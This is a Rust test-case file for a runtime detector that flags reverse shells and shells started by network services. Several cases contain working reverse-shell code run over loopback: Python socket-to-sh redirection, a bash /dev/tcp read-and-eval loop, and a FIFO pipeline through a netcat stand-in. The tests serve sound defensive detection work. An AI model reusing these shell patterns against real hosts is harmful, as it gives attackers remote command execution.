//! Shells that somebody else commands, and those that a network service starts.

use crate::world::Case;

pub(crate) const CASES: &[Case] = &[
    Case {
        name: "a program gives a connection to a shell, which takes a command from it",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket
attacker = socket.create_server(("127.0.0.1", 0))
victim = os.fork()
if victim == 0:
    address = attacker.getsockname()
    attacker.close()
    connection = socket.create_connection(address)
    for descriptor in (0, 1, 2):
        os.dup2(connection.fileno(), descriptor)
    os.execv("/bin/sh", ["sh"])
connection, _ = attacker.accept()
connection.sendall(b"echo $((6 * 7)); exit\n")
assert connection.recv(100) == b"42\n"
os.waitpid(victim, 0)
PYTHON
"#,
        reports: &["picket_reverse_shell"],
    },
    Case {
        name: "a program gives a connection to a terminal, and that to a shell",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, pty, socket
attacker = socket.create_server(("127.0.0.1", 0))
victim = os.fork()
if victim == 0:
    address = attacker.getsockname()
    attacker.close()
    connection = socket.create_connection(address)
    for descriptor in (0, 1, 2):
        os.dup2(connection.fileno(), descriptor)
    pty.spawn("/bin/sh")
    os._exit(0)
connection, _ = attacker.accept()
connection.sendall(b"exit\n")
os.waitpid(victim, 0)
PYTHON
"#,
        reports: &["picket_reverse_shell"],
    },
    Case {
        name: "a script file of bash's gives itself to a connection",
        prepare: r#"
loopback
cat > job.sh <<'SCRIPT'
exec 3<>"/dev/tcp/127.0.0.1/$1"
while read -r line <&3; do eval "$line" >&3 2>&3; done
SCRIPT
"#,
        script: r#"
python3 - <<'PYTHON'
import os, socket, subprocess
here, there = os.pipe()
attacker = os.fork()
if attacker == 0:
    server = socket.create_server(("127.0.0.1", 0))
    os.write(there, b"%d" % server.getsockname()[1])
    connection, _ = server.accept()
    connection.sendall(b"echo $((6 * 7))\n")
    assert connection.recv(100) == b"42\n"
    connection.close()
    os._exit(0)
subprocess.run(["bash", "job.sh", os.read(here, 10)])
_, status = os.waitpid(attacker, 0)
assert status == 0, status
PYTHON
"#,
        reports: &["picket_shell_on_connection"],
    },
    Case {
        name: "a program passes on what a connection says to a shell's pipes",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket, subprocess, time
attacker = socket.create_server(("127.0.0.1", 0))
victim = os.fork()
if victim == 0:
    address = attacker.getsockname()
    attacker.close()
    connection = socket.create_connection(address)
    # A connection is told once it is established, which takes its moment; so does typing.
    time.sleep(1)
    shell = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    answer, _ = shell.communicate(connection.recv(100))
    connection.sendall(answer)
    os._exit(0)
connection, _ = attacker.accept()
connection.sendall(b"echo $((6 * 7))\n")
assert connection.recv(100) == b"42\n"
os.waitpid(victim, 0)
PYTHON
"#,
        reports: &["picket_shell_fed_by_client"],
    },
    Case {
        name: "a program passes on what a connection says to a shell's Unix sockets, as Node.js does",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket, subprocess, time
attacker = socket.create_server(("127.0.0.1", 0))
victim = os.fork()
if victim == 0:
    address = attacker.getsockname()
    attacker.close()
    connection = socket.create_connection(address)
    # A connection is told once it is established, which takes its moment; so does typing.
    time.sleep(1)
    ours, theirs = socket.socketpair()
    shell = subprocess.Popen(["sh"], stdin=theirs, stdout=theirs)
    ours.sendall(connection.recv(100))
    connection.sendall(ours.recv(100))
    shell.wait()
    os._exit(0)
connection, _ = attacker.accept()
connection.sendall(b"echo $((6 * 7)); exit\n")
assert connection.recv(100) == b"42\n"
os.waitpid(victim, 0)
PYTHON
"#,
        reports: &["picket_shell_fed_by_client"],
    },
    Case {
        name: "a program starts a shell on pipes first, and then connects to whom it is for",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket, subprocess
here, there = os.pipe()
attacker = os.fork()
if attacker == 0:
    server = socket.create_server(("127.0.0.1", 0))
    os.write(there, b"%d" % server.getsockname()[1])
    connection, _ = server.accept()
    connection.sendall(b"echo $((6 * 7))\n")
    assert connection.recv(100) == b"42\n"
    os._exit(0)
shell = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
connection = socket.create_connection(("127.0.0.1", int(os.read(here, 10))))
open("connected", "w").close()  # A connection is told before what its thread does next.
answer, _ = shell.communicate(connection.recv(100))
connection.sendall(answer)
_, status = os.waitpid(attacker, 0)
assert status == 0, status
PYTHON
"#,
        reports: &["picket_shell_feeder_connects"],
    },
    Case {
        name: "what passes a shell on connects by several paths at once (MPTCP), which is no TCP to the kernel",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket, subprocess
attacker = socket.create_server(("127.0.0.1", 0))
victim = os.fork()
if victim == 0:
    address = attacker.getsockname()
    attacker.close()
    try:
        connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    except OSError:
        connection = socket.socket()  # A kernel without it.
    connection.connect(address)
    open("connected", "w").close()  # A connection is told before what its thread does next.
    shell = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    answer, _ = shell.communicate(connection.recv(100))
    connection.sendall(answer)
    os._exit(0)
connection, _ = attacker.accept()
connection.sendall(b"echo $((6 * 7))\n")
assert connection.recv(100) == b"42\n"
os.waitpid(victim, 0)
PYTHON
"#,
        reports: &["picket_shell_fed_by_client"],
    },
    Case {
        name: "a script file ties a shell to netcat by a FIFO",
        prepare: r#"
loopback
cp /usr/bin/python3 nc
cat > relay <<'PYTHON'
import os, socket, sys
# What the shell says first comes once it runs.
assert os.read(0, 100) == b"here\n"
attacker = socket.create_server(("127.0.0.1", 0))
connection = socket.create_connection(attacker.getsockname())
other, _ = attacker.accept()
open("connected", "w").close()  # A connection is told before what its thread does next.
other.sendall(b"echo $((6 * 7)); exit\n")
os.write(1, connection.recv(100))
connection.sendall(os.read(0, 100))
assert other.recv(100) == b"42\n"
PYTHON
"#,
        script: "mkfifo pipe; (echo 'echo here'; cat pipe) | sh 2>&1 | ./nc relay > pipe",
        reports: &["picket_shell_feeder_connects"],
    },
    Case {
        name: "a program gives a shell a script through pipes, and connects when that is done",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import socket, subprocess
subprocess.run(["sh"], input=b"true", stdout=subprocess.PIPE, check=True)
socket.socket().connect_ex(("127.0.0.1", 9))
PYTHON
"#,
        reports: &[],
    },
    Case {
        name: "a script that is piped into a shell, whose output is kept, connects",
        prepare: r#"
loopback
cp /usr/bin/python3 curl
echo 'import socket; socket.socket().connect_ex(("127.0.0.1", 9))' > ask
"#,
        script: "echo ./curl ask | sh 2>&1 | cat > log",
        reports: &[],
    },
    Case {
        name: "pipes carry what is typed somewhere else into an interactive shell, and back",
        prepare: "",
        script: "mkfifo in; (echo exit > in) & setsid -w sh -i < in 2>&1 | cat",
        reports: &["picket_shell_without_terminal"],
    },
    Case {
        name: "a script file of bash's connects to the internet",
        prepare: "loopback; echo ': > /dev/tcp/1.1.1.1/9' > job.sh",
        script: "bash job.sh || true",
        reports: &["picket_shell_connects"],
    },
    Case {
        name: "scripts ask whether services answer, and a client runs commands",
        prepare: r#"
loopback
cat > wait.sh <<'SCRIPT'
(echo > "/dev/tcp/127.0.0.1/$1")
exec 3<>"/dev/tcp/127.0.0.1/$1"
printf 'GET / HTTP/1.0\r\n\r\n' >&3
read -r line <&3
cat <&3
bash -ic true < /dev/null
SCRIPT
"#,
        script: r#"
python3 - <<'PYTHON'
import os, socket, subprocess
here, there = os.pipe()
service = os.fork()
if service == 0:
    server = socket.create_server(("127.0.0.1", 0))
    os.write(there, b"%d" % server.getsockname()[1])
    for _ in range(3):
        connection, _ = server.accept()
        try:
            connection.recv(100)
            connection.sendall(b"HTTP/1.0 200 OK\r\n\r\nwell\n")
        except OSError:
            pass
        connection.close()
    os._exit(0)
port = os.read(here, 10)
subprocess.run(["bash", "wait.sh", port], check=True, stdout=subprocess.DEVNULL)
with socket.create_connection(("127.0.0.1", int(port))) as connection:
    subprocess.run(["sh", "-c", "cat"], input=b"data", stdout=subprocess.PIPE, check=True)
    subprocess.run(["sh"], stdin=subprocess.DEVNULL, check=True)
_, status = os.waitpid(service, 0)
assert status == 0, status
PYTHON
"#,
        reports: &[],
    },
    Case {
        name: "shells on pipes, on Unix sockets, and on a pipe after a connection",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket, subprocess
subprocess.run(["sh"], input=b"true", stdout=subprocess.PIPE, check=True)
ours, theirs = socket.socketpair()
ours.sendall(b"exit\n")
subprocess.run(["sh"], stdin=theirs, stdout=theirs, check=True)
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.connect(("127.0.0.1", 9))
os.dup2(udp.fileno(), 0)
subprocess.run(["sh"], input=b"true", stdout=subprocess.PIPE, check=True)
PYTHON
"#,
        reports: &[],
    },
    Case {
        name: "a web server starts a shell",
        prepare: "cp /usr/bin/timeout nginx",
        script: "./nginx 60 sh -c 'id; uname -a'",
        reports: &["picket_shell_from_web_server"],
    },
    Case {
        name: "a shell that starts a web server, which starts a program",
        prepare: "cp /usr/bin/timeout nginx",
        script: "sh -c 'exec ./nginx 60 true'",
        reports: &[],
    },
    Case {
        name: "a program that listens starts a shell",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket
server = socket.create_server(("127.0.0.1", 0))
assert os.system("true") == 0
PYTHON
"#,
        reports: &["picket_shell_from_network_service"],
    },
    Case {
        name: "a program with a UDP port of its own starts a shell",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("127.0.0.1", 5353))
assert os.system("true") == 0
PYTHON
"#,
        reports: &["picket_shell_from_network_service"],
    },
    Case {
        name: "shells before a program listens, of one that listens on a Unix socket, and of a client",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket
assert os.system("true") == 0
local = socket.socket(socket.AF_UNIX)
local.bind("control")
local.listen()
assert os.system("true") == 0
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
client.bind(("127.0.0.1", 0))
client.connect(("127.0.0.1", 9))
assert os.system("true") == 0
server = socket.create_server(("127.0.0.1", 0))
PYTHON
"#,
        reports: &[],
    },
];
